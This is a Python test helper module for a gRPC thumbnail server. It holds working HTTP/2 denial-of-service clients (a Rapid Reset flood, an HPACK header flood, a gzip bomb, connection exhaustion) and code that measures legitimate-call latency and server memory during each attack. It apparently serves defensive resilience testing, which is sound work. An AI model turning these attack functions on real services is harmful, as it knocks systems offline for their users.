"""Hostile HTTP/2 clients for test_attacks.py, and what the tests measure
while they run.

The attacks speak HTTP/2 themselves over a plain socket: frames are packed
here with struct, header blocks come from python3-h2's HPACK encoder (hpack),
and the gzip bomb uses h2's H2Connection for flow control. grpcio cannot send
a reset stream on purpose, an oversized header block, or a compressed message
that was never uncompressed in the client's memory.

While an attack runs, a Legit thread makes real Generate calls with grpcio (a
real video, real PNGs checked) and records each latency and failure, and an
RssSampler records the front's resident memory.
"""

import socket
import struct
import threading
import time
import zlib

import harness as h

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
GENERATE = "/thumbnail.v1.Thumbnailer/Generate"


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream) + payload


def request_headers(path=GENERATE, extra=()):
    """A gRPC request's header block, literal (never indexed): the same bytes can be sent
    again and again without touching the server's dynamic table."""
    import hpack
    enc = hpack.Encoder()
    hdrs = [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "localhost"), ("content-type", "application/grpc"),
            ("te", "trailers")] + list(extra)
    return enc.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in hdrs], huffman=False)


def connect(host, port, timeout=10):
    s = socket.create_connection((host, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


class Drain(threading.Thread):
    """Reads (and drops) whatever the server sends, so that its writes never block
    and the attack measures the server, not TCP back-pressure."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.received = 0

    def run(self):
        try:
            while True:
                b = self.sock.recv(1 << 16)
                if not b:
                    return
                self.received += len(b)
        except OSError:
            return


def rapid_reset(host, port, pairs, batch=1000):
    """CVE-2023-44487: `pairs` HEADERS + RST_STREAM(CANCEL) on one connection, as fast as
    the socket takes them. Returns (bytes sent, seconds)."""
    block = request_headers()
    s = connect(host, port)
    d = Drain(s)
    d.start()
    sent, t0, sid = 0, time.monotonic(), 1
    rst = struct.pack(">I", CANCEL)
    try:
        while pairs > 0:
            n = min(batch, pairs)
            buf = bytearray()
            for _ in range(n):
                buf += frame(HEADERS, END_HEADERS, sid, block)
                buf += frame(RST_STREAM, 0, sid, rst)
                sid += 2
            s.sendall(buf)
            sent += len(buf)
            pairs -= n
    except OSError:
        pass  # the server may end the connection: that is a fine answer
    dt = time.monotonic() - t0
    time.sleep(0.5)
    s.close()
    return sent, dt


def hpack_flood(host, port, total, style="many"):
    """CVE-2023-33953: one header block of `total` bytes, as a HEADERS frame and
    CONTINUATION frames of 16 KiB. style "many": a multitude of small literal headers
    (the parser's per-header work); "big": one header whose value is the whole block
    (the parser's buffering). The last frame carries END_HEADERS. Returns (bytes, s)."""
    import hpack
    if style == "many":
        one = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-a", "b" * 8)],
                                     huffman=False)
        body = one * (total // len(one))
    else:
        # literal never indexed, new name "x-big", value of ~total bytes (7-bit prefix int)
        vlen = total
        ints = bytearray()
        if vlen < 127:
            ints.append(vlen)
        else:
            ints.append(127)
            v = vlen - 127
            while v >= 128:
                ints.append((v & 127) | 128)
                v >>= 7
            ints.append(v)
        body = b"\x10\x05x-big" + bytes(ints) + b"v" * vlen
    block = request_headers() + body
    s = connect(host, port)
    d = Drain(s)
    d.start()
    t0, sent = time.monotonic(), 0
    try:
        chunk = 16384
        first = True
        for off in range(0, len(block), chunk):
            part = block[off:off + chunk]
            last = off + chunk >= len(block)
            flags = END_HEADERS if last else 0
            s.sendall(frame(HEADERS if first else CONTINUATION, flags, 1, part))
            sent += len(part) + 9
            first = False
    except OSError:
        pass
    dt = time.monotonic() - t0
    time.sleep(0.5)
    s.close()
    return sent, dt


def gzip_bomb_payload(inflated):
    """A serialized GenerateRequest{data: `inflated` zero bytes}, gzip-compressed
    without ever holding it uncompressed: about inflated / 1000 bytes."""
    # field 2 (data), wire type 2: tag 0x12, then the varint length
    hdr = bytearray(b"\x12")
    v = inflated
    while v >= 128:
        hdr.append((v & 127) | 128)
        v >>= 7
    hdr.append(v)
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [c.compress(bytes(hdr))]
    zero = bytes(1 << 20)
    for _ in range(inflated >> 20):
        out.append(c.compress(zero))
    out.append(c.compress(bytes(inflated & ((1 << 20) - 1))))
    out.append(c.flush())
    return b"".join(out)


def gzip_bomb(host, port, payload, timeout=30):
    """Send one compressed gRPC message (grpc-encoding: gzip) on a Generate stream with
    h2's flow control, and wait for the stream's end. Returns the grpc-status the server
    sent (str), or None if the connection ended without one."""
    import h2.config
    import h2.connection
    import h2.events
    s = socket.create_connection((host, port), timeout=timeout)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":path", GENERATE),
                            (":authority", "localhost"), ("content-type", "application/grpc"),
                            ("te", "trailers"), ("grpc-encoding", "gzip"),
                            ("grpc-accept-encoding", "identity,gzip")])
    msg = b"\x01" + struct.pack(">I", len(payload)) + payload
    off, status, deadline = 0, None, time.monotonic() + timeout
    ended = False
    while not ended and time.monotonic() < deadline:
        while off < len(msg):
            win = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
            if win <= 0:
                break
            part = msg[off:off + win]
            off += len(part)
            conn.send_data(sid, part, end_stream=off >= len(msg))
        s.sendall(conn.data_to_send())
        try:
            b = s.recv(1 << 16)
        except socket.timeout:
            break
        except OSError:
            break
        if not b:
            break
        for ev in conn.receive_data(b):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in ev.headers:
                    if k == "grpc-status":
                        status = v
            if isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset,
                               h2.events.ConnectionTerminated)):
                ended = True
        s.sendall(conn.data_to_send())
    s.close()
    return status


def hold_connections(host, port, n):
    """Open n TCP connections (each sends the HTTP/2 preface); returns the sockets
    that connected. Connections past the server's fd limit wait in its backlog."""
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            socks.append(s)
        except OSError:
            break
    return socks


# --------------------------------------------------------------------------
# What is measured while an attack runs

class Legit(threading.Thread):
    """Real Generate calls in a loop (grpcio, a real video, one thumbnail each, its PNG
    decoded): latencies of the successes, and the failures with their status."""

    def __init__(self, addr, path, timeout=20, pause=0.2, retry=False):
        super().__init__(daemon=True)
        self.addr, self.path, self.timeout, self.pause = addr, path, timeout, pause
        self.latencies, self.failures = [], []
        # retry: as thumbnail_client does, a call that ends UNAVAILABLE or CANCELLED
        # (with one small thumbnail: before it arrived) is made once more; each retry
        # is recorded.
        self.retry, self.retries = retry, []
        self.stop_flag = threading.Event()

    def one(self):
        t0 = time.monotonic()
        try:
            try:
                self.call()
            except h.grpc.RpcError as e:
                if not self.retry or e.code() not in (h.grpc.StatusCode.UNAVAILABLE,
                                                      h.grpc.StatusCode.CANCELLED):
                    raise
                self.retries.append("%s: %s" % (e.code().name, e.details()))
                self.call()
            self.latencies.append(time.monotonic() - t0)
        except h.grpc.RpcError as e:
            self.failures.append("%s: %s" % (e.code().name, e.details()))
        except (AssertionError, h.PngError) as e:
            self.failures.append(str(e))

    def call(self):
        thumbs = h.generate(self.addr, timeout=self.timeout, path=self.path,
                            times=["50%"], max_width=160)
        if len(thumbs) != 1:
            raise AssertionError("%d thumbnails" % len(thumbs))
        png = h.png_decode(bytes(thumbs[0].data))
        if png.width != 160:
            raise AssertionError("thumbnail %dx%d" % (png.width, png.height))

    def run(self):
        while not self.stop_flag.is_set():
            self.one()
            self.stop_flag.wait(self.pause)

    def stop(self):
        self.stop_flag.set()
        if self.is_alive():
            self.join(self.timeout + 5)

    def summary(self):
        lat = sorted(self.latencies)
        return {"calls": len(lat) + len(self.failures), "failures": len(self.failures),
                "retries": len(self.retries),
                "max_latency_s": round(lat[-1], 3) if lat else None,
                "p50_latency_s": round(lat[len(lat) // 2], 3) if lat else None}


class RssSampler(threading.Thread):
    """The front's resident memory every `interval` s: peak and last, in MB. The front
    is whichever child of the master owns the listening socket (it changes when the
    watchdog replaces it)."""

    def __init__(self, server, interval=0.1):
        super().__init__(daemon=True)
        self.server, self.interval = server, interval
        self.peak = self.last = 0
        self.fronts = []
        self.stop_flag = threading.Event()
        self.front = None

    def sample(self):
        self.n = getattr(self, "n", 0) + 1
        if self.front is None or not h.pid_alive(self.front) or self.n % 10 == 0:
            self.front = self.server.roles()["front"] or self.front
            if self.front and self.front not in self.fronts:
                self.fronts.append(self.front)
        if self.front:
            rss = h.vm_status(self.front, "VmRSS") or 0
            self.last = rss
            self.peak = max(self.peak, rss)

    def run(self):
        while not self.stop_flag.is_set():
            self.sample()
            self.stop_flag.wait(self.interval)

    def stop(self):
        self.stop_flag.set()
        if self.is_alive():
            self.join(5)
